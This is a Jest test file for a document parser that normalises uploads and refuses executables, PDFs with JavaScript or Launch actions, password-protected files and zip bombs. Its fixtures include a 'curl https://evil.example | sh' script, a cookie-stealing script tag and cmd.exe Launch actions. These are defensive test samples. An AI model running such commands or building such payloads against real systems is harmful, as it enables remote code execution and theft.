import mammoth from 'mammoth';
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { AppError } from '../../platform/errors';
import { pdfWithTwoPages, pdfWithAction, passwordProtectedPdf, pdfWithActionInObjectStream, onboardingDocx, ZipEntry, deflatedEntry, zip, deflatedZeros, CONTENT_TYPES, elf, peExecutable, png } from '../../../test/support/documents';
import { detectFormat, parseDocument, type ParseLimits } from './kb.parsers';

const limits: ParseLimits = { maxBytes: 10 * 1024 * 1024 };
const MB = 1024 * 1024;

async function refusal(run: () => unknown): Promise<AppError> {
  try {
    await run();
  } catch (e) {
    expect(e).toBeInstanceOf(AppError);
    return e as AppError;
  }
  throw new Error('expected the document to be refused');
}

const codeAndStatus = (e: AppError) => ({ code: e.code, status: e.status });

// --- sample documents, generated so the tests show exactly what goes in ---------------------

// --- formats -----------------------------------------------------------------------------

describe('document parsing: formats', () => {
  it('when a plain text file has CRLF line ends, trailing spaces and runs of blank lines, then the text is normalised and kept', async () => {
    const doc = await parseDocument(Buffer.from('First line   \r\nsecond line\r\n\r\n\r\n\r\n\r\nCafe\u0301 after the gap\t\r\n'), limits, { fileName: 'notes.txt' });
    expect(doc).toEqual({ format: 'txt', mimeType: 'text/plain', text: 'First line\nsecond line\n\nCafé after the gap' });
    expect(doc.text).toBe(doc.text.normalize('NFC'));
  });

  it('when a markdown file is uploaded, then it is kept as is and its first heading is the title', async () => {
    const md = 'Intro.\n\n```sh\n# not the title\n```\n\n# Runbook\n\nRestart the *worker* first.\n\n## Backups\n\nNightly at 02:00.\n';
    const doc = await parseDocument(Buffer.from(md), limits, { fileName: 'runbook.md' });
    expect(doc).toEqual({ format: 'md', mimeType: 'text/markdown', text: md.trim(), title: 'Runbook' });
    expect(detectFormat(Buffer.from(md))).toBe('md');
  });

  it('when text is ambiguous, then the declared name chooses between text formats; otherwise the content does', () => {
    const prose = Buffer.from('Just a few words of prose.\n');
    expect(detectFormat(prose, { fileName: 'a.md' })).toBe('md');
    expect(detectFormat(prose, { mimeType: 'text/markdown; charset=utf-8' })).toBe('md');
    expect(detectFormat(prose, { fileName: 'a.txt' })).toBe('txt');
    expect(detectFormat(prose)).toBe('txt');
    const table = Buffer.from('a,b\n1,2\n');
    expect(detectFormat(table)).toBe('txt');
    expect(detectFormat(table, { fileName: 'T.CSV' })).toBe('csv');
    expect(detectFormat(Buffer.from('{"a": 1}'), { fileName: 'looks.txt' })).toBe('json');
    expect(detectFormat(Buffer.from('| host | port |\n| --- | --- |\n| db1 | 5432 |\n'))).toBe('md');
  });

  it('when a UTF-16 file with a byte-order mark is uploaded, then it is decoded as text', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Grüße aus Köln\n', 'utf16le')]);
    await expect(parseDocument(utf16, limits)).resolves.toMatchObject({ format: 'txt', text: 'Grüße aus Köln' });
    const utf8WithBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('# Hallo\n\nWelt')]);
    await expect(parseDocument(utf8WithBom, limits)).resolves.toMatchObject({ format: 'md', text: '# Hallo\n\nWelt', title: 'Hallo' });
  });

  it('when an HTML page is uploaded, then scripts, styles and images are dropped, headings become markdown and links keep their text', async () => {
    const html = `<!DOCTYPE html><html><head><title>Leave &amp; Holidays</title><style>p { color: red }</style><script>steal(document.cookie)</script></head>
      <body><script>alert('body script')</script><h1>Leave policy</h1><p>Ask your <a href="https://hr.example.com/leave">manager</a> first.
      <a href="javascript:evil()">Click</a> <img src="x.png" alt="diagram"></p><h2>Sick days</h2><p>Tell the team before 9.</p>
      <p># not a heading</p><ul><li>one</li><li>two</li></ul><table><tr><th>Days</th><th>Who</th></tr><tr><td>25</td><td>everyone</td></tr></table></body></html>`;
    const doc = await parseDocument(Buffer.from(html), limits, { fileName: 'leave.html' });
    expect(doc.format).toBe('html');
    expect(doc.mimeType).toBe('text/html');
    expect(doc.title).toBe('Leave & Holidays');
    expect(doc.text).toContain('# Leave policy\n\nAsk your manager (https://hr.example.com/leave) first.');
    expect(doc.text).toContain('\n\n## Sick days\n\nTell the team before 9.');
    expect(doc.text).toContain('\\# not a heading');
    expect(doc.text).toContain('Days | Who\n25 | everyone');
    expect(doc.text).toMatch(/\* one\n \* two/);
    for (const gone of ['steal', 'body script', 'color: red', 'javascript:', 'diagram', 'x.png']) expect(doc.text).not.toContain(gone);
  });

  it('when a real PDF has a sentence on each of two pages, then both are extracted with a blank line between and the Title metadata is the title', async () => {
    const doc = await parseDocument(await pdfWithTwoPages(), limits, { fileName: 'review.pdf', mimeType: 'application/pdf' });
    expect(doc).toEqual({
      format: 'pdf',
      mimeType: 'application/pdf',
      text: 'The quick brown fox audits the backups on page one.\n\nThe lazy dog restores them on page two.',
      title: 'Quarterly Operations Review',
    });
  });

  it('when a real DOCX has a Heading 1, paragraphs, a link and a table, then the heading survives as "# Heading" and is the title', async () => {
    const convert = jest.spyOn(mammoth, 'convertToHtml');
    try {
      const doc = await parseDocument(await onboardingDocx(), limits, { fileName: 'onboarding.docx' });
      expect(doc.format).toBe('docx');
      expect(doc.mimeType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
      expect(doc.title).toBe('Onboarding Guide');
      expect(doc.text).toBe('# Onboarding Guide\n\nNew hires get a laptop on their first day.\n\n## Accounts\n\nAsk IT for a ticket (https://it.example.com/new) before noon.\n\nSystem | Owner\nPayroll | Finance team');
      // The control for the zip-bomb tests below: this spy does see mammoth run.
      expect(convert).toHaveBeenCalledTimes(1);
    } finally {
      convert.mockRestore();
    }
  });

  it('when a CSV is uploaded, then each row becomes one "header: value; …" line of its own', async () => {
    const csv = 'name,role,notes\r\nAlice,admin,"on call, weekends"\r\nBob,member,\r\n';
    const doc = await parseDocument(Buffer.from(csv), limits, { fileName: 'people.csv' });
    expect(doc).toEqual({ format: 'csv', mimeType: 'text/csv', text: 'name: Alice; role: admin; notes: on call, weekends\n\nname: Bob; role: member' });
    const tsv = 'host\tport\ndb1\t5432\ndb2\t6432\n';
    await expect(parseDocument(Buffer.from(tsv), limits)).resolves.toMatchObject({ format: 'csv', text: 'host: db1; port: 5432\n\nhost: db2; port: 6432' });
  });

  it('when a JSON file is uploaded, then it is pretty-printed with two spaces and long numbers keep every digit', async () => {
    const doc = await parseDocument(Buffer.from('{"id":12345678901234567890,"name":"Caf\\u00e9","tags":["a","b"],"empty":{},"nested":{"ok":true}}'), limits, { fileName: 'item.json' });
    expect(doc.format).toBe('json');
    expect(doc.mimeType).toBe('application/json');
    expect(doc.text).toBe('{\n  "id": 12345678901234567890,\n\n  "name": "Café",\n\n  "tags": [\n    "a",\n    "b"\n  ],\n\n  "empty": {},\n\n  "nested": {\n    "ok": true\n  }\n}');
  });

  it('when a file is named .json but is not JSON, then it is read by its content as text, not refused', async () => {
    await expect(parseDocument(Buffer.from('{ this is not json, just notes'), limits, { fileName: 'data.json', mimeType: 'application/json' })).resolves.toEqual({
      format: 'txt',
      mimeType: 'text/plain',
      text: '{ this is not json, just notes',
    });
  });

  it('when a PDF is named .txt, then it is parsed as the PDF it is', async () => {
    await expect(parseDocument(await pdfWithTwoPages(), limits, { fileName: 'notes.txt', mimeType: 'text/plain' })).resolves.toMatchObject({ format: 'pdf' });
  });
});

// --- refusals ----------------------------------------------------------------------------

describe('document parsing: refusals', () => {
  it('when the file is empty, then it is refused with 400 empty-file', async () => {
    expect(codeAndStatus(await refusal(() => parseDocument(Buffer.alloc(0), limits, { fileName: 'a.txt' })))).toEqual({ code: 'empty-file', status: 400 });
    expect(codeAndStatus(await refusal(() => detectFormat(Buffer.alloc(0))))).toEqual({ code: 'empty-file', status: 400 });
  });

  it('when the file is only whitespace, or HTML without any text, then it is refused with 400 empty-file', async () => {
    const blank = await refusal(() => parseDocument(Buffer.from(' \r\n\t\n   \n'), limits));
    expect(codeAndStatus(blank)).toEqual({ code: 'empty-file', status: 400 });
    expect(blank.message).toMatch(/only whitespace/);
    const noText = await refusal(() => parseDocument(Buffer.from('<html><body><img src="a.png"><script>x()</script></body></html>'), limits));
    expect(codeAndStatus(noText)).toEqual({ code: 'empty-file', status: 400 });
  });

  it('when the file is larger than maxBytes, then it is refused with 413 file-too-large and the limit', async () => {
    const e = await refusal(() => parseDocument(Buffer.alloc(1025, 'a'), { maxBytes: 1024 }));
    expect(codeAndStatus(e)).toEqual({ code: 'file-too-large', status: 413 });
    expect(e.details).toEqual({ limitBytes: 1024 });
    await expect(parseDocument(Buffer.alloc(1024, 'a'), { maxBytes: 1024 })).resolves.toMatchObject({ format: 'txt' });
  });

  it('when the extracted text is longer than maxTextChars, then it is refused with 413 document-text-too-long', async () => {
    const e = await refusal(() => parseDocument(Buffer.from('word '.repeat(100)), { maxBytes: MB, maxTextChars: 100 }));
    expect(codeAndStatus(e)).toEqual({ code: 'document-text-too-long', status: 413 });
    expect(e.details).toEqual({ limitChars: 100 });
  });

  it.each([
    ['an ELF executable named report.pdf', elf, { fileName: 'report.pdf', mimeType: 'application/pdf' }],
    ['an ELF executable named notes.txt', elf, { fileName: 'notes.txt', mimeType: 'text/plain' }],
    ['a Windows (MZ/PE) executable named report.pdf', peExecutable, { fileName: 'report.pdf', mimeType: 'application/pdf' }],
    ['a Windows (MZ/PE) executable named notes.txt', peExecutable, { fileName: 'notes.txt' }],
    ['a Mach-O executable named notes.md', () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(64)]), { fileName: 'notes.md' }],
    ['a shell script named readme.txt', () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), { fileName: 'readme.txt' }],
    ['a PNG image named photo.txt', png, { fileName: 'photo.txt', mimeType: 'text/plain' }],
    ['a PNG image', png, undefined],
    ['an unknown binary', () => Buffer.from([0x13, 0x37, 0x00, 0xff, 0xfe, 0x00, 0x01, 0x02, 0x80, 0x81]), { fileName: 'data.csv' }],
    ['a ZIP that is not a Word document', () => zip([deflatedEntry('hello.txt', 'hi')]), { fileName: 'report.docx' }],
    ['an Excel workbook named .docx', () => zip([deflatedEntry('[Content_Types].xml', CONTENT_TYPES), deflatedEntry('xl/workbook.xml', '<workbook/>')]), { fileName: 'report.docx' }],
  ])('when %s is uploaded, then it is refused with 415 unsupported-file-type', async (_what, make, declared) => {
    const bytes = make();
    const e = await refusal(() => parseDocument(bytes, limits, declared));
    expect(codeAndStatus(e)).toEqual({ code: 'unsupported-file-type', status: 415 });
    expect(e.message).toMatch(/Supported types: .*PDF.*\.docx/);
    expect(codeAndStatus(await refusal(() => detectFormat(bytes, declared)))).toEqual({ code: 'unsupported-file-type', status: 415 });
  });

  it('when text merely starts with "MZ", then it is still text', async () => {
    await expect(parseDocument(Buffer.from('MZ Logistics annual report'), limits)).resolves.toMatchObject({ format: 'txt' });
  });

  it.each([
    ['in the catalog', false],
    ['in a compressed object stream', true],
  ])('when a PDF has a JavaScript OpenAction %s, then it is refused with 422 unsafe-document', async (_where, useObjectStreams) => {
    const bytes = await pdfWithAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }, useObjectStreams);
    // The compressed case is the one a plain byte search would miss.
    expect(bytes.includes('/JavaScript')).toBe(!useObjectStreams);
    const e = await refusal(() => parseDocument(bytes, limits, { fileName: 'invoice.pdf' }));
    expect(codeAndStatus(e)).toEqual({ code: 'unsafe-document', status: 422 });
    expect(e.message).toMatch(/JavaScript/);
  });

  it('when a PDF has a Launch action, then it is refused with 422 unsafe-document', async () => {
    const bytes = await pdfWithAction({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') }, true);
    expect(codeAndStatus(await refusal(() => parseDocument(bytes, limits)))).toEqual({ code: 'unsafe-document', status: 422 });
  });

  it('when a Launch action hides in an unfiltered object stream, then the scan of object streams finds it and it is refused with 422 unsafe-document', async () => {
    // pdf.js reports no Launch actions, so only the scan can refuse this one.
    const bytes = pdfWithActionInObjectStream('<< /S /Launch /F (cmd.exe) >>', 'none');
    const e = await refusal(() => parseDocument(bytes, limits));
    expect(codeAndStatus(e)).toEqual({ code: 'unsafe-document', status: 422 });
    expect(e.message).toMatch(/launches programs/);
  });

  it('when JavaScript hides in a hex-encoded object stream the scan cannot read, then pdf.js finds it and it is refused with 422 unsafe-document', async () => {
    const bytes = pdfWithActionInObjectStream('<< /S /JavaScript /JS (app.alert(1)) >>', 'ASCIIHexDecode');
    expect(bytes.includes('JavaScript')).toBe(false);
    const e = await refusal(() => parseDocument(bytes, limits));
    expect(codeAndStatus(e)).toEqual({ code: 'unsafe-document', status: 422 });
    expect(e.message).toMatch(/JavaScript/);
  });

  it('when a PDF merely mentions /JavaScript and /Launch in its text and metadata, then it is accepted', async () => {
    const doc = await PDFDocument.create();
    const font = await doc.embedFont(StandardFonts.Helvetica);
    doc.addPage().drawText('Never put /JavaScript or /Launch actions in a PDF.', { x: 50, y: 700, size: 12, font });
    doc.context.lookup(doc.context.trailerInfo.Info, PDFDict).set(PDFName.of('Keywords'), PDFString.of('/JavaScript /JS /Launch /AA'));
    const bytes = Buffer.from(await doc.save({ useObjectStreams: false }));
    expect(bytes.includes('(/JavaScript /JS /Launch /AA)')).toBe(true);
    await expect(parseDocument(bytes, limits)).resolves.toMatchObject({ format: 'pdf', text: 'Never put /JavaScript or /Launch actions in a PDF.' });
  });

  it('when a PDF opens at a page (a harmless OpenAction), then it is accepted', async () => {
    const doc = await PDFDocument.create();
    const font = await doc.embedFont(StandardFonts.Helvetica);
    const page = doc.addPage();
    page.drawText('Opened at page one.', { x: 50, y: 700, size: 12, font });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([page.ref, PDFName.of('Fit')]));
    await expect(parseDocument(Buffer.from(await doc.save()), limits)).resolves.toMatchObject({ format: 'pdf', text: 'Opened at page one.' });
  });

  it('when a PDF needs a password to be read, then it is refused with 422 unsafe-document', async () => {
    const e = await refusal(async () => parseDocument(await passwordProtectedPdf(), limits));
    expect(codeAndStatus(e)).toEqual({ code: 'unsafe-document', status: 422 });
    expect(e.message).toMatch(/password/);
  });

  it('when a file starts with %PDF-1.7 followed by garbage, then it is refused with 422 unparseable-document', async () => {
    const e = await refusal(() => parseDocument(Buffer.from('%PDF-1.7\n\u00e2\u00e3 garbage that is not a PDF at all \x01\x02\x03'), limits, { fileName: 'broken.pdf' }));
    expect(codeAndStatus(e)).toEqual({ code: 'unparseable-document', status: 422 });
  });

  it('when a .docx has the right parts but its document is not XML, then it is refused with 422 unparseable-document', async () => {
    const bytes = zip([deflatedEntry('[Content_Types].xml', CONTENT_TYPES), deflatedEntry('word/document.xml', '<<<< this is not xml')]);
    expect(detectFormat(bytes)).toBe('docx');
    expect(codeAndStatus(await refusal(() => parseDocument(bytes, limits)))).toEqual({ code: 'unparseable-document', status: 422 });
    const truncated = (await onboardingDocx()).subarray(0, 2000);
    expect(codeAndStatus(await refusal(() => parseDocument(truncated, limits)))).toEqual({ code: 'unparseable-document', status: 422 });
  });
});

describe('document parsing: zip bombs', () => {
  const BOMB_SIZE = 200 * MB;
  let zeros: { deflated: Buffer; crc: number };
  let convert: jest.SpyInstance;

  beforeAll(async () => {
    zeros = await deflatedZeros(BOMB_SIZE);
  });
  beforeEach(() => {
    convert = jest.spyOn(mammoth, 'convertToHtml');
  });
  afterEach(() => convert.mockRestore());

  const bombDocx = (entry: Partial<ZipEntry>) =>
    zip([deflatedEntry('[Content_Types].xml', CONTENT_TYPES), { name: 'word/document.xml', deflated: zeros.deflated, declaredSize: BOMB_SIZE, crc: zeros.crc, ...entry }]);

  it('when a .docx declares 200 MB of content in its central directory, then it is refused with 422 archive-too-large and mammoth never runs', async () => {
    const bytes = bombDocx({});
    expect(bytes.length).toBeLessThan(MB);
    expect(detectFormat(bytes)).toBe('docx');
    const e = await refusal(() => parseDocument(bytes, limits, { fileName: 'bomb.docx' }));
    expect(codeAndStatus(e)).toEqual({ code: 'archive-too-large', status: 422 });
    expect(e.details).toEqual({ limitBytes: 50 * MB, maxCompressionRatio: 100 });
    expect(e.message).toMatch(/more than 50 MB/);
    expect(convert).not.toHaveBeenCalled();
  });

  it('when the oversized entry is not even valid deflate data, then it is still refused as archive-too-large: the decision comes from the central directory, before inflating', async () => {
    const bytes = bombDocx({ deflated: Buffer.alloc(4096, 0xab) });
    // Inflating this entry would fail as damaged data, not as too large.
    expect(codeAndStatus(await refusal(() => parseDocument(bytes, limits)))).toEqual({ code: 'archive-too-large', status: 422 });
    expect(convert).not.toHaveBeenCalled();
  });

  it('when the total is within the byte limit but an entry expands over 100 times, then it is refused with 422 archive-too-large', async () => {
    const e = await refusal(() => parseDocument(bombDocx({}), { ...limits, maxUncompressedBytes: 1024 * MB }));
    expect(codeAndStatus(e)).toEqual({ code: 'archive-too-large', status: 422 });
    expect(e.message).toMatch(/over 100 times its compressed size/);
    expect(convert).not.toHaveBeenCalled();
  });

  it('when the central directory lies (declares 1 KB for an entry that inflates to 200 MB), then inflating stops at the lie and it is refused with 422 archive-too-large', async () => {
    const e = await refusal(() => parseDocument(bombDocx({ declaredSize: 1024 }), limits));
    expect(codeAndStatus(e)).toEqual({ code: 'archive-too-large', status: 422 });
    expect(e.message).toMatch(/more data than its directory declares/);
    expect(convert).not.toHaveBeenCalled();
  });
});
